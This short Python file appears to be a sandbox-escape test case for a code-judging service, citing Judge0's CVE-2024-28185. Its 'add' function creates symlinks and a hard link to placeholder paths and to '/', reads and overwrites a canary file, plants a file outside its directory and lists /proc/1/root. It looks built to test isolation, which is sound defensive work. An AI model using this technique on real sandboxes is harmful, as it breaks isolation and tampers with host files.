# Escape: symlinks and hard links from its working directory to files outside, read and
# written through; a link left for the clean-up to follow (Judge0's CVE-2024-28185).
# verdict: wrong_answer
import os
import sys


def add(a, b):
    for name, target in (("agx-canary", "{{CANARY}}"), ("agx-outside", "{{OUTSIDE}}"), ("agx-root", "/")):
        try:
            os.symlink(target, name)
        except OSError:
            pass
    for action in (lambda: print(open("agx-canary").read(), file=sys.stderr),
                   lambda: open("agx-canary", "w").write("overwritten"),
                   lambda: open("agx-outside/agx-planted", "w").write("planted"),
                   lambda: os.link("{{CANARY}}", "agx-hardlink"),
                   lambda: print(os.listdir("agx-root/proc/1/root"))):
        try:
            action()
        except OSError:
            pass
    return a - b
